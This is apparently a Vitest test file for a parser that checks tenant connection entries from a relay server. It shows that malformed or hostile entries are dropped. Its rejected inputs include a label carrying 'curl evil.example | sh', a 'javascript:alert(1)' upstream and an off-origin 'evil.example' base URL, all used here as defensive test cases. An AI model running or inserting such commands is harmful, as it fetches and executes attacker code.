import { describe, expect, it } from 'vitest';
import { EMULATOR, EMULATOR_SANDBOX } from '@/lib/connection';
import { parseConnections } from './parse-connections';

const ACME = {
  name: 'acme',
  label: 'Acme University',
  base: '/relay/acme',
  upstream: 'https://acme.teamdynamix.com/TDWebApi',
  organization: 'acme',
};
const ACME_CONNECTION = {
  id: 'relay:acme',
  label: 'Acme University',
  baseUrl: '/relay/acme',
  upstream: 'https://acme.teamdynamix.com/TDWebApi',
  organization: 'acme',
};

const answer = (tenants: unknown[], more: Record<string, unknown> = {}) => ({
  emulator: true,
  default: 'emulator',
  tenants,
  ...more,
});

describe('the connections this server offers, from GET /relay', () => {
  it('offers this server’s own two, then each tenant under the label the server gives it', () => {
    expect(parseConnections(answer([ACME]))).toEqual({
      connections: [EMULATOR, EMULATOR_SANDBOX, ACME_CONNECTION],
      defaultId: 'emulator',
    });
  });

  it('offers none of this server’s own while its emulator is off, and names the default tenant', () => {
    expect(parseConnections(answer([ACME], { emulator: false, default: 'acme' }))).toEqual({
      connections: [ACME_CONNECTION],
      defaultId: 'relay:acme',
    });
  });

  it('reads a default of "emulator" with the emulator off as a tenant of that name', () => {
    expect(parseConnections(answer([], { emulator: false }))?.defaultId).toBe('relay:emulator');
  });

  it.each([
    ['a base that is not the relay path of its name', { ...ACME, base: '/TDWebApi' }],
    ['a base on another origin', { ...ACME, base: 'https://evil.example/relay/acme' }],
    ['a name with odd characters', { ...ACME, name: 'ac/me', base: '/relay/ac/me' }],
    ['an upstream that is not http(s)', { ...ACME, upstream: 'javascript:alert(1)' }],
    ['no label', { ...ACME, label: undefined }],
    ['an empty label', { ...ACME, label: '  ' }],
    ['a label on two lines', { ...ACME, label: 'Acme\ncurl evil.example | sh' }],
    ['a label with a control character', { ...ACME, label: 'Acme\u001b[2J' }],
    ['a label over 200 characters', { ...ACME, label: 'A'.repeat(201) }],
    ['no organization', { ...ACME, organization: undefined }],
    ['an organization that is not text', { ...ACME, organization: 7 }],
    ['not an object', 'acme'],
    ['null', null],
  ])('leaves out a tenant with %s, and keeps the others', (_name, entry) => {
    const other = { ...ACME, name: 'other', base: '/relay/other' };
    expect(parseConnections(answer([entry, other]))?.connections.map((c) => c.id)).toEqual([
      'emulator',
      'emulator-sandbox',
      'relay:other',
    ]);
  });

  it('leaves out a second tenant of the same name', () => {
    const again = { ...ACME, label: 'Acme again' };
    expect(parseConnections(answer([ACME, again]))?.connections.map((c) => c.label)).toEqual([
      EMULATOR.label,
      EMULATOR_SANDBOX.label,
      'Acme University',
    ]);
  });

  it.each([
    ['not an object', 'tenants'],
    ['null', null],
    ['tenants that are not a list', { emulator: true, default: 'emulator', tenants: { acme: ACME } }],
    ['no emulator flag', { default: 'emulator', tenants: [ACME] }],
    ['an emulator flag that is not a boolean', { emulator: 'false', default: 'acme', tenants: [ACME] }],
  ])('is nothing for an answer that is %s', (_name, body) => {
    expect(parseConnections(body)).toBeNull();
  });
});
